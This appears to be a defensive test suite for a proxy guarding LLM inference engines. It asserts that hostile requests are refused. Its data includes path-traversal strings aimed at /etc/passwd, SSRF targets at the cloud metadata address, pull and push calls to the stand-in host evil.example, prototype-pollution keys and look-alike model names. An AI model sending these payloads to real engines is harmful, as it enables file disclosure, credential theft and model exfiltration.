import assert from 'node:assert/strict'
import { test } from 'node:test'
import { request, startGuardStage, statusOf } from './stage.ts'

/** What engines let anybody do to them, with what an attacker would send. */
const MANAGEMENT: readonly [string, string, unknown][] = [
  ['POST', '/api/pull', { model: 'ATTACK-evil.example/x/y', insecure: true }],
  ['POST', '/api/push', { model: 'ATTACK-evil.example/stolen/model' }],
  ['POST', '/api/create', { model: 'ATTACK', files: { 'x.zip': 'sha256:../../../../etc/passwd' } }],
  ['POST', '/api/create', { name: 'ATTACK', modelfile: 'FROM /etc/passwd' }],
  ['POST', `/api/blobs/sha256:${'a'.repeat(64)}`, 'ATTACK GGUF'],
  ['POST', '/api/blobs/sha256:..%2f..%2f..%2fATTACK', 'ATTACK'],
  ['HEAD', `/api/blobs/sha256:${'b'.repeat(64)}`, ''],
  ['DELETE', '/api/delete', { model: 'ATTACK' }],
  ['POST', '/api/copy', { source: 'toy:1b', destination: 'ATTACK' }],
  ['POST', '/api/show', { model: 'ATTACK' }],
  ['GET', '/api/tags', ''],
  ['GET', '/api/ps', ''],
  ['POST', '/api/generate', { model: 'toy:1b', prompt: 'ATTACK' }],
  ['POST', '/api/chat', { model: 'toy:1b', messages: [{ role: 'user', content: 'ATTACK' }] }],
  ['POST', '/api/embed', { model: 'toy:1b', input: 'ATTACK' }],
  ['POST', '/api/experimental/web_search', { query: 'ATTACK' }],
  ['POST', '/api/experimental/web_fetch', { url: 'http://169.254.169.254/ATTACK' }],
  ['POST', '/api/me', { x: 'ATTACK' }],
  ['POST', '/api/signout', 'ATTACK'],
  ['POST', '/invocations', { prompt: 'ATTACK' }],
  ['POST', '/pooling', { input: 'ATTACK' }],
  ['POST', '/score', { text_1: 'ATTACK' }],
  ['POST', '/rerank', { query: 'ATTACK' }],
  ['POST', '/tokenize', { prompt: 'ATTACK' }],
  ['POST', '/v1/load_lora_adapter', { lora_name: 'ATTACK', lora_path: '/etc' }],
  ['POST', '/slots/0?action=save', { filename: 'ATTACK' }],
  ['POST', '/props', { x: 'ATTACK' }],
  ['POST', '/lora-adapters', [{ id: 0, path: 'ATTACK' }]],
  ['POST', '/completion', { prompt: 'ATTACK' }],
  ['POST', '/v1/audio/transcriptions', 'ATTACK'],
]

for (const kind of ['ollama', 'vllm', 'llama-server'] as const) {
  test(`${kind}: no management route exists`, async t => {
    const stage = await startGuardStage(t, kind)
    for (const [method, target, body] of MANAGEMENT) {
      for (const answer of await stage.attack(request(method, target, body)))
        assert.ok(statusOf(answer) >= 400 && statusOf(answer) !== 500, `${method} ${target}: ${answer.slice(0, 60)}`)
    }
    await stage.held('ATTACK', 'evil.example')
  })
}

test('no way of writing a path leads to one', async t => {
  const stage = await startGuardStage(t)
  const body = { model: 'ATTACK', prompt: 'ATTACK' }
  const targets = [
    '/v1/../api/pull',
    '/v1/..%2fapi/pull',
    '/v1/%2e%2e/api/pull',
    '/v1/%252e%252e/api/pull',
    '/v1/chat/completions/../../../api/pull',
    '/v1/chat/completions/..%5c..%5capi%5cpull',
    '/v1\\..\\api\\pull',
    '/%61pi/pull',
    '//api/pull',
    '/./api/pull',
    '/v1/models/..%2f..%2fapi%2fpull',
    '/v1/chat/completions%00/api/pull',
    '/v1/chat/completions;/api/pull',
    '/api/pull?x=/v1/chat/completions',
    '/api/pull#/v1/chat/completions',
    `${stage.engine.url}/api/pull`,
    'http://169.254.169.254/latest/meta-data',
    `${stage.engine.url.slice('http://'.length)}`,
    '*',
  ]
  for (const target of targets) {
    for (const method of ['POST', 'GET', 'CONNECT', 'TRACE', 'OPTIONS', 'PUT']) {
      for (const answer of await stage.attack(request(method, target, method === 'POST' ? body : '')))
        assert.ok(!(statusOf(answer) >= 200 && statusOf(answer) < 300), `${method} ${target}: ${answer.slice(0, 60)}`)
    }
  }
  await stage.held('ATTACK', 'meta-data')
})

const HINTS = new Set(['keep_alive', 'id_slot', 'cache_salt', 'base_url', '__proto__x', 'constructor'])

test('what a client says about the engine never reaches it, and is named: keep_alive, options, raw, template, addresses', async t => {
  const stage = await startGuardStage(t)
  const fields: Record<string, unknown> = {
    keep_alive: -1,
    options: { num_gpu: 0, num_ctx: 1_000_000 },
    raw: true,
    template: 'ATTACK',
    system: 'ATTACK',
    context: [1, 2, 3],
    images: ['ATTACK'],
    suffix: 'ATTACK',
    grammar: 'root ::= "ATTACK"',
    lora: [{ id: 0, scale: 1 }],
    id_slot: 0,
    cache_salt: 'ATTACK',
    chat_template: '{{ ATTACK }}',
    chat_template_kwargs: { x: 'ATTACK' },
    mm_processor_kwargs: {},
    guided_json: {},
    structured_outputs: {},
    add_special_tokens: true,
    base_url: 'http://evil.example',
    __proto__x: 'ATTACK',
    constructor: 'ATTACK',
  }
  for (const [field, value] of Object.entries(fields)) {
    const response = await stage.ask({ [field]: value })
    const text = await response.text()
    // What would change the answer is refused; what only hints is passed over; what says nothing is nothing.
    const saysNothing = JSON.stringify(value) === '{}'
    assert.equal(response.status, HINTS.has(field) || saysNothing ? 200 : 400, `${field}: ${text}`)
    assert.ok(saysNothing || text.includes(field), `${field} is named: ${text}`)
  }
  await stage.held('ATTACK', 'num_gpu', 'keep_alive', 'evil.example')
})

test('a remote image address is never fetched, by nobody', async t => {
  const stage = await startGuardStage(t)
  const urls = [
    `${stage.engine.url}/ATTACK.png`,
    'http://169.254.169.254/ATTACK',
    'file:///etc/ATTACK',
    'ftp://x/ATTACK',
  ]
  for (const url of urls) {
    const content = [{ type: 'image_url', image_url: { url } }]
    const response = await stage.ask({ messages: [{ role: 'user', content }] })
    assert.equal(response.status, 400, url)
  }
  await stage.held('ATTACK')
})

test("models are named by their offer: look-alikes, hidden signs and other machines' models are unknown", async t => {
  const stage = await startGuardStage(t)
  const names = [
    'ｔoy:1b',
    'tоy:1b',
    'toy:1b​',
    '‮b1:yot',
    'TOY:1b',
    ' toy:1b',
    'toy:1b ',
    'toy:1b\u0000',
    'toy﹕1b',
    'toy:1ｂ',
    'toy',
    'toy:latest',
    'gpt-oss:120b-cloud',
    'toy:1b-cloud',
    'toy:cloud',
    '../toy:1b',
    'library/toy:1b',
    'registry.ollama.ai/library/toy:1b',
    '/etc/passwd',
    'x'.repeat(10_000),
    'constructor',
    '__proto__',
  ]
  for (const model of names) {
    const response = await stage.ask({ model })
    const text = await response.text()
    assert.ok([400, 404].includes(response.status), `${JSON.stringify(model).slice(0, 40)}: ${text.slice(0, 200)}`)
  }
  assert.equal(stage.engine.questions().length, 0)
  await stage.held('cloud"', '../toy')
})
